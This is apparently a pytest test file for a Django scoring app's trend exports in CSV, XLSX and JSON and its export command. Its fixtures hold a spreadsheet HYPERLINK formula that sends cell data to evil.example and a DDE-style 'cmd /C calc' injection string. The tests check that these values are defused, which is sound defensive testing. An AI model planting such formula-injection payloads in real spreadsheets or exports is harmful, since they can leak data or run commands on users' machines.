"""Trends downloads and ``manage.py export_trends``: the page's series, defused cells."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook

from scoring.models import ImprovementItem
from tests import factories

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def runs(db, alice):
    first, second, orgs = factories.make_trend_runs(facilitator=alice)
    ImprovementItem.objects.filter(organization=orgs["hospital"]).update(corrective_action=HOSTILE)
    orgs["bank"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
    orgs["bank"].save()
    return first, second, orgs


def download(client, user, fmt, **params):
    client.force_login(user)
    response = client.get(reverse("scoring:trends-export", args=[fmt]), params)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return response.content


def test_the_csv_has_a_row_per_point_with_the_claimed_change_and_defused_text(client, alice, runs):
    _, _, orgs = runs
    rows = list(csv.DictReader(io.StringIO(download(client, alice, "csv").decode())))
    hospital = [
        r for r in rows if r["Subject"] == orgs["hospital"].name and r["Measure"] == "Respond"
    ]
    assert [r["Score"] for r in hospital] == ["48.0", "70.0"]
    assert hospital[1]["Change since previous"] == "22.0"
    assert hospital[1]["Change claimed"] == "yes"
    assert hospital[1]["Items due since previous"].startswith("'=HYPERLINK")
    bank = [r for r in rows if r["Measure"] == "Respond" and "cmd" in r["Subject"]]
    assert bank[0]["Subject"].startswith("'@SUM")
    assert bank[1]["Low confidence"] == "yes"
    assert bank[1]["Change claimed"] == "no"


def test_the_xlsx_stores_formula_like_text_as_inert_text(client, alice, runs):
    book = load_workbook(io.BytesIO(download(client, alice, "xlsx")))
    assert book.sheetnames == ["Trends", "Improvement items"]
    items = book["Improvement items"]
    cell = next(c for row in items.iter_rows(min_row=2) for c in row if c.value == HOSTILE)
    assert cell.data_type == "s"
    assert cell.quotePrefix
    subjects = [c for c in book["Trends"]["B"] if str(c.value).startswith("@SUM")]
    assert subjects
    assert all(c.data_type == "s" and c.quotePrefix for c in subjects)


def test_the_json_carries_points_steps_and_the_honesty_flags(client, alice, runs):
    first, second, orgs = runs
    document = json.loads(download(client, alice, "json", per="criterion"))
    assert document["schema_version"] == "1"
    assert [e["code"] for e in document["exercises"]] == [first.code, second.code]
    hospital = next(
        s
        for s in document["series"]
        if s["subject"] == orgs["hospital"].name and s["measure"] == "Respond"
    )
    (step,) = hospital["steps"]
    assert step["change"] == 22
    assert step["claimed"] is True
    assert step["items"][0]["corrective_action"] == HOSTILE  # JSON is data, not a sheet
    assert step["items"][0]["status"] == "done"
    bank = next(
        s for s in document["series"] if "cmd" in s["subject"] and s["measure"] == "Respond"
    )
    assert bank["points"][1]["low_confidence"] is True
    assert bank["steps"][0]["claimed"] is False


def test_the_command_writes_every_format_the_page_offers(runs, tmp_path):
    _, _, orgs = runs
    for fmt in ("csv", "xlsx", "json"):
        out = tmp_path / f"trends.{fmt}"
        call_command("export_trends", "--format", fmt, "-o", str(out), stdout=io.StringIO())
        assert out.stat().st_size > 0
    out = tmp_path / "one.json"
    call_command(
        "export_trends",
        "--format=json",
        f"-o={out}",
        f"--organization={orgs['hospital'].code}",
        "--per=group",
        stdout=io.StringIO(),
    )
    document = json.loads(out.read_text())
    assert {s["subject"] for s in document["series"]} == {orgs["hospital"].name}
    assert document["per"] == "group"


def test_the_command_names_the_rubrics_when_it_cannot_choose(runs, tmp_path):
    first, _, _ = runs
    with pytest.raises(CommandError, match="No rubric 'nope'"):
        call_command("export_trends", "--format=csv", f"-o={tmp_path / 'x.csv'}", "--rubric=nope")
    factories.make_trend_runs()  # a second rubric with two runs
    with pytest.raises(CommandError, match=first.scenario.rubric.key):
        call_command("export_trends", "--format=csv", f"-o={tmp_path / 'x.csv'}")
